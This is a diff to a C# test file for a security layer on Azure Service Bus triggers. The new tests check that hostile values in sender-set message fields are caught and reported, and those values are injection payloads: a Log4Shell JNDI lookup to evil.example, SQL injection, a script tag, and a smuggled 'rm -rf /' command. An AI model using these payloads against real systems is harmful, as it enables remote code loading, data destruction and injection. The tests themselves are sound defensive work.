@@ -93,6 +93,42 @@ public sealed class ServiceBusTriggerTests(SyntheticWorkerFixture worker) : ICla
         Assert.Equal("id-2", finding.ItemId);
     }
 
+    // The sender sets the correlation id, session id, subject and the rest: consumers log, route and query by them.
+    // (This fixture's detectors are markers, one per class: the worker tests pin what reaches the pipeline.)
+    [Theory]
+    [InlineData("CorrelationId", "${jndi:ldap://evil.example/a}", "SHIELD1009", "message.correlationId")]
+    [InlineData("SessionId", "cart-7' OR '1'='1' --", "SHIELD1001", "message.sessionId")]
+    [InlineData("Label", "<script>alert(1)</script>", "SHIELD1003", "message.subject")]
+    [InlineData("ReplyTo", "replies; rm -rf /", "SHIELD1004", "message.replyTo")]
+    [InlineData("Subject", "orders.created", null, null)]
+    public async Task Message_SenderSetField_IsInspected(string key, string value, string? rule, string? fieldPath)
+    {
+        var message = Data.Unique("ok");
+
+        var response = await InvokeAsync(message, new() { [key] = Data.String(value) });
+
+        Assert.Equal(rule is null ? Status.Success : Status.Failure, response.Result.Status);
+        Assert.Equal(rule is null, SyntheticFunctions.Received.Contains(message));
+        var findings = SecurityEventLog.Of(response.InvocationId);
+        Assert.Equal(rule is null ? [] : [(rule, fieldPath)], findings.Select(e => (e.RuleId, e.FieldPath)).Distinct());
+    }
+
+    [Fact]
+    public async Task Batch_SenderSetFieldOfOneMessage_IsReportedWithThatMessageId()
+    {
+        var metadata = new Dictionary<string, TypedData>
+        {
+            ["MessageIdArray"] = Data.Json("[\"id-1\",\"id-2\"]"),
+            ["CorrelationIdArray"] = Data.Json("[\"req-1\",\"${jndi:ldap://evil.example/a}\"]"),
+        };
+
+        var response = await worker.InvokeAsync(nameof(SyntheticFunctions.OnServiceBusBatch), "messages", Data.Strings([Data.Unique("m1"), "m2"]), metadata);
+
+        Assert.Equal(Status.Failure, response.Result.Status);
+        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == "SHIELD1009");
+        Assert.Equal(("id-2", "messages[1].correlationId"), (finding.ItemId, finding.FieldPath));
+    }
+
     // Regression: a Service Bus message id is the sender's (any string), and went into log lines and security events
     // as sent, line breaks included: the shield's own log could be forged through it. Ids now reach them as printable
     // ASCII, at most 128 characters.
@@ -134,7 +170,8 @@ public sealed class ServiceBusTriggerTests(SyntheticWorkerFixture worker) : ICla
     private Task<InvocationResponse> InvokeAsync(string message, Dictionary<string, TypedData>? metadata = null, string function = SyntheticWorkerFixture.ServiceBusFunction)
     {
         metadata ??= [];
-        metadata["MessageId"] = Data.String(Guid.NewGuid().ToString());
+        // Short: this function's payload limit (32 bytes) applies to every input, the message id included.
+        metadata["MessageId"] = Data.String("m-" + Guid.NewGuid().ToString("N")[..12]);
         metadata["DeliveryCount"] = Data.Json("1");
         return worker.InvokeAsync(function, "message", Data.String(message), metadata);
     }
